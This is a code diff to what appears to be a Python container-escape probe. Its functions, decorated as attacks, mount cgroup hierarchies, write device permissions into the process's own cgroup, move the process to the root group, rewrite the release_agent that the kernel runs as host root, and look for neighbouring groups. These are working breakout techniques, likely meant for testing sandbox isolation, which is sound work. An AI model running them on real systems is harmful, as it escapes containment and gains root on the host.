@@ -100,16 +100,16 @@ def host_loopback() -> str:
 
 
 # -- control groups --------------------------------------------------------------------------------
-def _hierarchies() -> Iterator[str]:
-    """Every hierarchy that can be mounted, where it is then."""
+def _hierarchies() -> Iterator[tuple[str, str]]:
+    """Every hierarchy that can be mounted: where it is then, and one's own group in it."""
     with open("/proc/self/cgroup") as file:
-        names = [line.split(":")[1] for line in file]
-    for number, name in enumerate(names):
+        groups = [line.rstrip("\n").split(":", 2) for line in file]
+    for number, name, path in groups:
         place = f"/root/cg{number}"
         kind, data = ("cgroup", name) if name else ("cgroup2", "")
         with contextlib.suppress(OSError):
             mount("cgroup", place, kind, 0, data)
-            yield place
+            yield place, place + path
 
 
 LIMITS = (
@@ -122,14 +122,10 @@ LIMITS = (
 def raise_a_limit() -> str:
     """Any of one's own limits, to what it is."""
     found = "nothing"
-    for place in _hierarchies():
+    for _, own in _hierarchies():
         for name in LIMITS:
-            path = f"{place}/{name}"
-            if os.path.exists(path):
-                try:
-                    rewrite(path, b"c 1:3 rw")
-                except OSError:
-                    continue
+            with contextlib.suppress(OSError):
+                rewrite(f"{own}/{name}", b"c 1:3 rw")
                 found = "done"
     return found
 
@@ -138,7 +134,7 @@ def raise_a_limit() -> str:
 def leave_the_cgroup() -> str:
     """By a group of one's own beside it, or the root of the hierarchy."""
     found = "nothing"
-    for place in _hierarchies():
+    for place, _ in _hierarchies():
         if os.path.exists(f"{place}/cgroup.procs") and _is_root(place):
             try:
                 with open(f"{place}/cgroup.procs", "w") as file:
@@ -158,7 +154,7 @@ def _is_root(place: str) -> bool:
 def release_agent() -> str:
     """The program that the kernel runs, as root of the machine, when a v1 group is empty."""
     found = "nothing"
-    for place in _hierarchies():
+    for place, _ in _hierarchies():
         try:
             if os.path.exists(f"{place}/release_agent"):
                 found = rewrite(f"{place}/release_agent")
@@ -170,5 +166,5 @@ def release_agent() -> str:
 @attack(16)
 def other_cgroups() -> str:
     """The neighbours' groups."""
-    found = [place for place in _hierarchies() if _is_root(place)]
+    found = [place for place, _ in _hierarchies() if _is_root(place)]
     return "something" if found else "nothing"
